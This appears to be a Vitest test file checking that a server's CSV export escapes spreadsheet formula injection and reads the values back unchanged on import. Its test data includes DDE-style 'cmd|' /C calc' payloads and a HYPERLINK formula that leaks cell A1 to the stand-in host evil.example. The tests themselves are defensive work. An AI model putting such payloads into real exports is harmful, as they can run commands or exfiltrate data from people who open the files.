import { describe, expect, it } from 'vitest';
import { csvField } from '../../server/exports/csv-writer.js';
import { escapeFormula, unescapeFormula } from '../../server/exports/spreadsheet-formulas.js';

/** CSV formula injection: what the export and the failed rows write, and what the import reads back. */

describe('escapeFormula / unescapeFormula', () => {
  it("puts a ' before a value a spreadsheet would read as a formula (OWASP: = + - @ TAB CR)", () => {
    for (const [value, written] of [
      [`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`],
      ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', `'=HYPERLINK("https://evil.example/?x="&A1,"Click")`],
      ["-2+3+cmd|' /C calc'!A0", `'-2+3+cmd|' /C calc'!A0`],
      ['+1)*cmd', `'+1)*cmd`],
      ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
      ['\t=1+2', `'\t=1+2`],
      ['\r=1+2', `'\r=1+2`],
      ['=', `'=`],
      ['-', `'-`],
      ['- first item', `'- first item`],
      ['-1e5', `'-1e5`],
      ['+33612345678|+442079460000', `'+33612345678|+442079460000`],
      // A value that starts with quotes before one of those: one more, so that the import's one less gives it back.
      [`'=1+2`, `''=1+2`],
      [`''@x`, `'''@x`],
      [`'-3.5`, `''-3.5`],
    ]) {
      expect(escapeFormula(value), JSON.stringify(value)).toBe(written);
      expect(unescapeFormula(written), JSON.stringify(written)).toBe(value);
    }
  });

  it('leaves numbers and phone numbers, and everything else, as they are', () => {
    for (const value of [
      '+33612345678',
      '+33 6 12 34 56 78',
      '+1 415 555 2671',
      '+1 (415) 555-2671',
      '-3.5',
      '-0.000001',
      '-12',
      '+.5',
      '0612345678',
      "Zoë O'Brien",
      "'hello",
      "'",
      '',
      ' =1+2', // a leading space: text for a spreadsheet
      'a=b',
      'x@example.org',
    ]) {
      expect(escapeFormula(value), JSON.stringify(value)).toBe(value);
      expect(unescapeFormula(value), JSON.stringify(value)).toBe(value);
    }
  });

  it('reads a hand-written protected cell without its quote', () => {
    expect(unescapeFormula("'+33612345678")).toBe('+33612345678');
    expect(unescapeFormula("'=A1")).toBe('=A1');
    expect(unescapeFormula("'hello")).toBe("'hello");
  });

  it('round trip for any start: the import reads back what the export wrote', () => {
    const starts = ["'", "''", '=', '+', '-', '@', '\t', '\r', '1', ' ', 'a', '(', '.'];
    const ends = ['', '1', '12.5', ' 415 555', ')*cmd', '+1', 'A1', "'=x"];
    for (const a of starts)
      for (const b of starts)
        for (const c of ends) {
          const value = a + b + c;
          expect(unescapeFormula(escapeFormula(value)), JSON.stringify(value)).toBe(value);
          // Nothing written starts a formula: first character a quote, or a number.
          const written = escapeFormula(value);
          if (/^[=+\-@\t\r]/.test(written)) expect(written, JSON.stringify(value)).toMatch(/^[+-]?[0-9 .()-]+$/);
        }
  });

  it('csvField protects, then quotes', () => {
    expect(csvField('=1+2')).toBe(`'=1+2`);
    expect(csvField('=SUM(1,2)')).toBe(`"'=SUM(1,2)"`);
    expect(csvField('=A1 "x"')).toBe(`"'=A1 ""x"""`);
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(csvField('-3.5')).toBe('-3.5');
  });
});
